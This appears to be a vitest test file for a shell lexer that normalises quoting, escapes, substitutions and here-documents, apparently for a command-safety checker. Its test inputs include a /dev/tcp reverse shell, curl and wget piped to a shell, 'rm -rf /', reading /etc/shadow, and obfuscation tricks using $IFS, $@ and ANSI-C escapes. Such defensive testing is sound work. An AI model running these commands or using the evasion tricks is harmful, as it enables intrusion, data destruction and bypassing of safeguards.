import { describe, expect, it } from 'vitest';
import { ansiC } from './lexer-util.js';
import { lex, MAX_DEPTH, type Redir, type Token, type Word } from './shell-lexer.js';

const show = (tokens: Token[]) => tokens.map((t) => (t.kind === 'word' ? t.value : t.kind === 'op' ? t.op : `${t.fd >= 0 ? t.fd : ''}${t.op}${t.target ? t.target.value : ''}`));
const words = (text: string) => lex(text).filter((t): t is Word => t.kind === 'word');

describe('lex', () => {
  it('splits words and operators', () => {
    expect(show(lex('a b|c||d&&e;f&g |& h'))).toEqual(['a', 'b', '|', 'c', '||', 'd', '&&', 'e', ';', 'f', '&', 'g', '|&', 'h']);
  });

  it('removes quotes and escapes, and flags words that had them', () => {
    const ws = words(`c'u'rl "b"a\\sh plain $'\\x63url' "a b"`);
    expect(ws.map((w) => w.value)).toEqual(['curl', 'bash', 'plain', 'curl', 'a b']);
    expect(ws.map((w) => w.quoted)).toEqual([true, true, false, true, true]);
  });

  it('keeps offsets of the source', () => {
    const [a, b] = words('  echo   "hi there"');
    expect([a!.start, a!.end, b!.start, b!.end]).toEqual([2, 6, 9, 19]);
  });

  it('joins line continuations and keeps double-quote escapes', () => {
    expect(show(lex('curl -s \\\n  http://x \\\r\n | sh'))).toEqual(['curl', '-s', 'http://x', '|', 'sh']);
    expect(words('"a\\"b\\$c\\d"')[0]!.value).toBe('a"b$c\\d');
  });

  it('skips comments and collapses newlines', () => {
    expect(show(lex('ls # rm -rf /\n\n\necho a#b'))).toEqual(['ls', '\n', 'echo', 'a#b']);
  });

  it('reads redirections with file descriptors', () => {
    const t = lex('bash -i >& /dev/tcp/h/1 0>&1 2>err &> all &>>more <in <>rw 5<>/dev/tcp/h/2 >|f') as Token[];
    expect(show(t)).toEqual(['bash', '-i', '>&/dev/tcp/h/1', '0>&1', '2>err', '&>all', '&>>more', '<in', '<>rw', '5<>/dev/tcp/h/2', '>|f']);
  });

  it('lexes command substitutions, backticks and process substitution recursively', () => {
    const [w] = words('"$(curl -s `echo x`)"');
    expect(w!.subs).toHaveLength(1);
    const inner = w!.subs![0]!;
    expect(inner.kind).toBe('$(');
    expect(show(inner.tokens)).toEqual(['curl', '-s', '`echo x`']);
    const tick = (inner.tokens[2] as Word).subs![0]!;
    expect(tick.kind).toBe('`');
    expect(show(tick.tokens)).toEqual(['echo', 'x']);
    const [, p] = words('bash <(wget -qO- u)');
    expect(p!.subs![0]!.kind).toBe('<(');
    expect(show(p!.subs![0]!.tokens)).toEqual(['wget', '-qO-', 'u']);
  });

  it('skips arithmetic and keeps ${...} as text', () => {
    expect(words('echo $((1+(2*3))) ${HOME:-/x} x')!.map((w) => w.value)).toEqual(['echo', '$((1+(2*3)))', '${HOME:-/x}', 'x']);
  });

  it('treats $IFS, ${IFS} as separators and $@ as nothing', () => {
    expect(words('cat${IFS}/etc/shadow').map((w) => w.value)).toEqual(['cat', '/etc/shadow']);
    expect(words('cat$IFS/etc/shadow').map((w) => w.value)).toEqual(['cat', '/etc/shadow']);
    expect(words('c$@url x').map((w) => w.value)).toEqual(['curl', 'x']);
  });

  it('reads here-documents (<<, <<-, quoted delimiters) and continues after them', () => {
    const text = 'bash <<EOF\ncurl x | sh\nEOF\ncat <<-\'END\' > f\n\tbody $x\n\tEND\necho done';
    const tokens = lex(text);
    const redirs = tokens.filter((t): t is Redir => t.kind === 'redir');
    expect(redirs[0]!.heredoc).toBeDefined();
    const h = redirs[0]!.heredoc!;
    expect(text.slice(h.start, h.end)).toBe('curl x | sh\n');
    expect(h.quoted).toBe(false);
    const h2 = redirs.find((r) => r.op === '<<-')!.heredoc!;
    expect(text.slice(h2.start, h2.end)).toBe('\tbody $x\n');
    expect(h2.quoted).toBe(true);
    expect(show(tokens).slice(-2)).toEqual(['echo', 'done']);
    // The body is not lexed as commands of the outer text.
    expect(show(tokens)).not.toContain('curl');
  });

  it('takes an unterminated here-document to the end', () => {
    const text = 'sh <<X\nrm -rf /\n';
    const r = lex(text).find((t): t is Redir => t.kind === 'redir')!;
    expect(text.slice(r.heredoc!.start, r.heredoc!.end)).toBe('rm -rf /\n');
  });

  it('treats apostrophes between letters as letters in prose', () => {
    expect(lex("don't run rm -rf / ever", 0, undefined, { prose: true }).map((t) => (t as Word).value)).toEqual(["don't", 'run', 'rm', '-rf', '/', 'ever']);
  });

  it('stops nesting at MAX_DEPTH without losing its place', () => {
    const deep = `${'$('.repeat(MAX_DEPTH + 4)}x${')'.repeat(MAX_DEPTH + 4)} after`;
    const tokens = lex(deep);
    expect(show(tokens).at(-1)).toBe('after');
    let sub = (tokens[0] as Word).subs?.[0];
    let depth = 0;
    while (sub && sub.tokens.length > 0) {
      depth++;
      sub = (sub.tokens[0] as Word).subs?.[0];
    }
    expect(depth).toBeLessThanOrEqual(MAX_DEPTH);
  });

  it('decodes ANSI-C strings safely', () => {
    expect(ansiC('\\x63\\165rl\\n\\t\\u0041\\U0001F600')).toBe('curl\n\tA\u{1F600}');
    expect(ansiC('\\U7fffffff ok')).toBe(' ok'); // out of range: dropped, no exception
    expect(ansiC('plain')).toBe('plain');
  });

  it('respects the range it is given', () => {
    expect(show(lex('xx curl yy', 3, 7))).toEqual(['curl']);
  });
});
